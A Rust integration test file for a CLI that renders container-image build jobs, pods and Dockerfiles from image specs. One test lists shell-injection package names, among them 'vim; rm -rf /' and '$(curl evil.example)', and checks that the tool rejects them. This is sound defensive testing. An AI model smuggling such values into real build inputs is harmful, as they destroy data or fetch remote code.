//! `customimage render --image-spec`: the ImageSpecJob, build pod and Dockerfile for three
//! image specs. The Dockerfile goldens (binary insta snapshots,
//! `fixtures/render/image-specs/<spec>.snap.Dockerfile`, compared byte for byte) were
//! written by hand from the controller's Go template, not produced by this tool; the hashes
//! were computed with `sha1sum` over the `;`-joined parts.

use crate::support::cli::command;
use crate::support::pyyaml::safe_load_all;
use crate::support::render::*;
use crate::support::{fixture, read};

struct Rendered {
    dir: tempfile::TempDir,
    stdout_docs: Vec<serde_json::Value>,
    stderr: String,
}

fn render(values_case: &str, spec: &str) -> Rendered {
    let values = fixture(&format!("render/{values_case}/values.yaml"));
    let spec = fixture(&format!("image-specs/{spec}.yaml"));
    let out = command()
        .args(["render", &values, "--image-spec", &spec])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dir = tempfile::tempdir().unwrap();
    command()
        .args([
            "-q",
            "render",
            &values,
            "--image-spec",
            &spec,
            "--output-dir",
        ])
        .arg(dir.path())
        .assert()
        .success();
    Rendered {
        dir,
        stdout_docs: safe_load_all(&String::from_utf8(out.stdout).unwrap()),
        stderr: String::from_utf8(out.stderr).unwrap(),
    }
}

fn env<'a>(pod: &'a serde_json::Value, name: &str) -> &'a str {
    pod["spec"]["containers"][0]["env"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == name)
        .and_then(|e| e["value"].as_str())
        .unwrap_or_else(|| panic!("no env {name}"))
}

/// The Dockerfile `--output-dir` wrote.
fn written_dockerfile(r: &Rendered) -> String {
    read(&r.dir.path().join("Dockerfile"))
}

/// Checks the job name, target image and Dockerfile (file and pod env, against the golden of
/// `spec`) of one render.
fn check(r: &Rendered, job_name: &str, target_image: &str, spec: &str) {
    let job = doc(&r.stdout_docs, "ImageSpecJob");
    assert_eq!(job["metadata"]["name"], job_name);
    let pod = doc(&r.stdout_docs, "Pod");
    assert_eq!(env(pod, "TARGET_IMAGE"), target_image);
    let written = written_dockerfile(r);
    assert_dockerfile_golden(spec, written.as_bytes());
    assert_eq!(env(pod, "DOCKERFILE"), written);
    let pod_name = pod["metadata"]["name"].as_str().unwrap();
    let suffix = pod_name
        .strip_prefix(&format!("image-{job_name}-"))
        .unwrap_or_else(|| panic!("{pod_name}"));
    assert!(suffix.len() == 4 && suffix.chars().all(|c| c.is_ascii_alphanumeric()));
}

#[test]
fn apt_only_spec_is_the_specs_example() {
    let r = render("dockerhub", "testresource");
    check(
        &r,
        "testresource-96ff7925",
        "docker.io/alice/primehub-images:testresource-96ff7925",
        "testresource",
    );
    // The SPEC's text, verbatim.
    assert_eq!(
        written_dockerfile(&r),
        "FROM jupyter/base-notebook\n\nUSER root\n\nRUN apt-get update && \\\n    apt-get install -y --no-install-recommends \\\n      curl \\\n      && \\\n    apt-get purge && apt-get clean\n\n\n\n\n"
    );
    let job = doc(&r.stdout_docs, "ImageSpecJob");
    assert_eq!(
        job["metadata"]["labels"]["imagespecs.primehub.io/name"],
        "testresource"
    );
    assert_eq!(job["metadata"]["labels"]["app"], "primehub-custom-image");
    assert_eq!(
        job["metadata"]["annotations"]["imagespecs.primehub.io/hash"],
        "96ff7925"
    );
    // With pushRepo the controller puts the whole reference in targetImage, no prefix.
    assert_eq!(
        job["spec"]["targetImage"],
        "docker.io/alice/primehub-images:testresource-96ff7925"
    );
    assert_eq!(job["spec"]["repoPrefix"], "");
    assert!(r.stderr.is_empty(), "{}", r.stderr);
}

#[test]
fn mixed_spec_drops_illegal_names_but_hashes_them() {
    let r = render("gcr", "mixed-illegal");
    check(
        &r,
        "data-science-ea7a2032",
        "gcr.io/primehub-demo-123/data-science:ea7a2032",
        "mixed-illegal",
    );
    for dropped in [
        "vim; rm -rf /",
        "$(curl evil.example)",
        "pandas>=2",
        "x' && touch /pwned '",
    ] {
        assert!(
            r.stderr
                .contains(&format!("{dropped:?} is not a valid package name")),
            "{dropped}: {}",
            r.stderr
        );
    }
    // Reported as findings of `image-spec-package`, each pointing at the package's line.
    assert_eq!(
        r.stderr.matches("image-spec-package").count(),
        4,
        "{}",
        r.stderr
    );
    assert!(
        r.stderr.contains("mixed-illegal.yaml:14:7]"),
        "{}",
        r.stderr
    );
    // The job keeps the packages as written; only the Dockerfile filters them.
    let job = doc(&r.stdout_docs, "ImageSpecJob");
    assert_eq!(
        job["spec"]["packages"]["pip"],
        serde_json::json!([
            "numpy==1.26.4",
            "pandas>=2",
            "scikit-learn",
            "x' && touch /pwned '"
        ])
    );
    assert_eq!(job["spec"]["repoPrefix"], "gcr.io/primehub-demo-123");
    assert_eq!(job["spec"]["targetImage"], "data-science:ea7a2032");
    assert_eq!(job["spec"]["pullSecret"], "base-pull-secret");
    let pod = doc(&r.stdout_docs, "Pod");
    let volumes = pod["spec"]["volumes"].as_array().unwrap();
    assert!(volumes
        .iter()
        .any(|v| v["name"] == "pull-secret" && v["secret"]["secretName"] == "base-pull-secret"));
    assert_eq!(
        env(pod, "BASE_IMAGE"),
        "registry.internal:5000/base/notebook:2024.1"
    );
}

#[test]
fn pip_only_spec_on_a_plain_http_registry() {
    let r = render("plain-http", "pip-only");
    check(
        &r,
        "tf-serving-61ed5ce6",
        "registry.internal:5000/primehub/tf-serving:61ed5ce6",
        "pip-only",
    );
    let pod = doc(&r.stdout_docs, "Pod");
    assert_eq!(env(pod, "SKIP_TLS_VERIFY"), "true");
    let container = &pod["spec"]["containers"][0];
    assert_eq!(container["name"], "build-and-push");
    assert_eq!(container["image"], "infuseai/buildah:v1.39.3");
    assert_eq!(
        container["command"],
        serde_json::json!(["/bin/sh", "/scripts/build-and-push.sh"])
    );
    assert_eq!(container["securityContext"]["privileged"], true);
    assert_eq!(
        container["resources"],
        serde_json::json!({"limits": {"cpu": "4", "memory": "4Gi"},
                           "requests": {"cpu": "500m", "memory": "100Mi"}})
    );
    assert_eq!(pod["spec"]["restartPolicy"], "Never");
    let volumes = &pod["spec"]["volumes"];
    assert_eq!(volumes[0]["emptyDir"]["sizeLimit"], "50Gi");
    assert_eq!(
        volumes[1]["configMap"]["name"],
        "primehub-controller-custom-image-scripts"
    );
    assert_eq!(
        volumes[2]["secret"]["secretName"],
        "primehub-controller-custom-image-push-secret"
    );
    assert_eq!(volumes.as_array().unwrap().len(), 3, "no pull secret");
}

#[test]
fn ecr_pods_mount_the_external_push_secret() {
    let r = render("ecr", "testresource");
    let pod = doc(&r.stdout_docs, "Pod");
    assert_eq!(
        pod["spec"]["volumes"][2]["secret"]["secretName"],
        "aws-registry"
    );
    assert_eq!(
        env(pod, "TARGET_IMAGE"),
        "123456789012.dkr.ecr.us-east-1.amazonaws.com/primehub-images:testresource-96ff7925"
    );
}

#[test]
fn output_dir_writes_one_file_per_object_secrets_0600() {
    let r = render("dockerhub", "testresource");
    let mut names: Vec<String> = std::fs::read_dir(r.dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "Dockerfile",
            "build-pod.yaml",
            "controller-config.yaml",
            "image-spec-job.yaml",
            "push-secret.yaml"
        ]
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |n: &str| {
            std::fs::metadata(r.dir.path().join(n))
                .unwrap()
                .permissions()
                .mode()
                & 0o777
        };
        assert_eq!(mode("push-secret.yaml"), 0o600);
        // The config map holds the password too, as the chart's does.
        assert_eq!(mode("controller-config.yaml"), 0o600);
        assert_eq!(mode("build-pod.yaml"), 0o644);
    }
    // Each file is its object, as in the stream.
    let secret = safe_load_all(&read(&r.dir.path().join("push-secret.yaml")));
    assert_eq!(secret.len(), 1);
    assert_eq!(secret, vec![doc(&r.stdout_docs, "Secret").clone()]);
}

#[test]
fn a_spec_that_is_not_an_image_spec_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let values = fixture("render/dockerhub/values.yaml");
    let write = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.to_string_lossy().into_owned()
    };
    let not_yaml = write("bad.yaml", "metadata: [unclosed\n");
    let wrong_kind = write(
        "pod.yaml",
        "kind: Pod\nmetadata: {name: x}\nspec: {baseImage: b}\n",
    );
    for (spec, code) in [
        (not_yaml, 1),
        (wrong_kind, 1),
        ("/nonexistent/spec.yaml".to_string(), 2),
    ] {
        command()
            .args(["render", &values, "--image-spec", &spec])
            .assert()
            .code(code)
            .stdout("");
    }
}

#[test]
fn without_a_push_target_a_spec_cannot_be_rendered() {
    let dir = tempfile::tempdir().unwrap();
    let values = dir.path().join("values.yaml");
    std::fs::write(&values, "customImage:\n  insecureSkipVerify: false\n").unwrap();
    command()
        .args([
            "render",
            values.to_str().unwrap(),
            "--image-spec",
            &fixture("image-specs/testresource.yaml"),
        ])
        .assert()
        .code(1)
        .stdout("")
        .stderr(predicates::str::contains(
            "neither pushRepo nor pushRepoPrefix",
        ));
}
